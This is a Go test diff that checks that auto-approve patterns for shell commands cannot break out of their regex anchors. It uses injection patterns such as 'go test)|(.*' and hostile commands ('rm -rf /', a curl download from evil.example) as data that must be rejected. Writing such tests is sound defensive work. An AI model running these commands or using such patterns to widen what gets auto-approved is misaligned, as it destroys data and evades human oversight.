@@ -104,3 +104,19 @@ func TestAutoApprovedDescription(t *testing.T) {
 		t.Errorf("got %q, %v", rule, ok)
 	}
 }
+
+// A pattern that is not a regular expression on its own must not become
+// one inside the anchors: "go test)|(.*" would match every command.
+func TestAutoApprovePatternCannotEscapeItsAnchors(t *testing.T) {
+	for _, p := range []string{`go test)|(.*`, `x)|.*|(y`, `a)(?:.*`} {
+		if _, err := Load([]byte("auto_approve:\n  - pattern: '" + p + "'\n")); err == nil {
+			t.Errorf("Load accepted the pattern %q", p)
+		}
+		s := Settings{AutoApprove: []AutoRule{{Pattern: p}}}
+		for _, cmd := range []string{"rm -rf /", "curl evil.example -o x", "go test"} {
+			if _, ok := s.AutoApproved(cmd); ok {
+				t.Errorf("pattern %q approved %q", p, cmd)
+			}
+		}
+	}
+}
